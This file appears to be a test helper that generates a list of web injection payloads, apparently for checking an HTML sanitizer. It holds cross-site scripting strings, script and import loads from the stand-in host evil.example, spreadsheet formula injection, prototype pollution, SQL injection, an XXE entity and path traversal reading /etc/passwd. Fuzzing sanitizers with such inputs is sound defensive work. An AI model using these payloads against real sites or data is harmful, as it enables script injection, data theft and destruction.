const TAGS = ['img', 'svg', 'iframe', 'body', 'video', 'details', 'input', 'math', 'object', 'x'];
const EVENTS = ['onerror', 'onload', 'onclick', 'onfocus', 'ontoggle', 'onmouseover', 'onbegin'];
const BODIES = ['alert(1)', 'alert`1`', 'top[8680439..toString(30)](1)', 'eval(name)', 'import(1)'];

const openings = ['', '">', "'>", '</title>', '</textarea>', '-->', ']]>', '{{', '${', '\u0000'];
/** Not written as one word: the linter would take it for an address of this page. */
const script = 'script:';

const schemes = [
  `java${script}`,
  `JaVa${script.toUpperCase()}`,
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'data:text/html,',
  'vbscript:',
  'blob:',
  '//evil.example/',
];

const events = TAGS.flatMap((tag) =>
  EVENTS.flatMap((event) =>
    BODIES.map((body) => `<${tag} src=x ${event}=${body}>`).concat(`<${tag}/${event}=alert(1)//`),
  ),
);
const broken = openings.flatMap((opening) => [
  `${opening}<script>alert(1)</script>`,
  `${opening}<script src=//evil.example></script>`,
  `${opening}<style>@import'//evil.example'</style>`,
  `${opening}<base href=//evil.example/>`,
  `${opening}<meta http-equiv=refresh content=0>`,
]);
const addresses = schemes.flatMap((scheme) => [
  `${scheme}alert(1)`,
  `<a href="${scheme}alert(1)">x</a>`,
  `<form action="${scheme}alert(1)"><button>`,
  `[x](${scheme}alert(1))`,
]);
const special = [
  '<sc\u0000ript>alert(1)</script>',
  '<\u202escript>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '＜script＞alert(1)＜/script＞',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '__proto__',
  'constructor',
  '{"__proto__":{"isAdmin":true}}',
  '=HYPERLINK("//evil.example")',
  '=cmd|x!A1',
  "'; DROP TABLE answers; --",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
  '../../../../etc/passwd',
  'en\u2028alert(1)',
  'en\u2029alert(1)',
];

/** Texts that some page somewhere has taken for code. All ways in, none of them refused by name. */
export const PAYLOADS: readonly string[] = [...events, ...broken, ...addresses, ...special];
